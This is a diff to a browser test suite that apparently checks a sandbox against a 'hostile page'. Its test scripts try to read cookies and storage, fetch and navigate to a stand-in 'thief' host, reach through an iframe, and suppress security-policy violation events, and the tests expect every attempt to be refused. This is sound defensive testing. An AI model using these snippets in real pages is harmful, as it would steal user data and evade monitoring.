@@ -64,6 +64,8 @@ describe('a hostile page', () => {
        await attempt('storage', () => localStorage.length);
        await attempt('session', () => sessionStorage.length);
        await attempt('database', () => indexedDB.open('x').constructor.name);
+       await attempt('cache', () => caches.open('x'));
+       await attempt('set-cookie', () => { document.cookie = 'a=b'; });
        await attempt('parent', () => parent.document.title);
        await attempt('top', () => { top.location = thief + '/top'; });
        await attempt('open', () => open(thief + '/open'));
@@ -93,8 +95,45 @@ describe('a hostile page', () => {
     expect(page.context().pages()).toHaveLength(1);
     expect(stolen).toEqual([]);
     expect(await authenticator.credentials()).toEqual([]);
-    await expect.poll(() => world.refusalsOf(page)).toContain('page.policy-violation');
-    expect(await world.refusedAbout(page)).toEqual(expect.arrayContaining(['connect-src', 'img-src']));
+    await expect
+      .poll(async () => (await world.refusedAbout(page)).toSorted(), { timeout: 10_000 })
+      .toEqual([
+        'cache-storage',
+        // fetch to the platform, fetch to the thief, beacon.
+        'connect-src',
+        'connect-src',
+        'connect-src',
+        'cookie',
+        'database',
+        'img-src',
+        'local-storage',
+        'navigation',
+        'other-window',
+        'prompt',
+        'session-storage',
+        'window',
+        'worker',
+      ]);
+    expect(new Set(await world.refusalsOf(page))).toEqual(
+      new Set(['page.forbidden-access', 'page.policy-violation']),
+    );
+    await page.context().close();
+  });
+
+  test('finds no way round what watches it: no frame of its own, no event to stop', async () => {
+    const { page, frame } = await hostile(
+      'hostileRealm',
+      `addEventListener('securitypolicyviolation', (event) => event.stopImmediatePropagation(), true);
+       const inner = document.createElement('iframe');
+       document.body.append(inner);
+       await attempt('realm', () => inner.contentWindow.document.cookie);
+       await attempt('fetch', () => fetch(thief + '/realm'));`,
+    );
+    expect(await triedBy(frame)).toEqual({ realm: 'SecurityError', fetch: 'TypeError' });
+    expect(stolen).toEqual([]);
+    await expect
+      .poll(async () => (await world.refusedAbout(page)).toSorted())
+      .toEqual(['connect-src', 'other-window']);
     await page.context().close();
   });
 
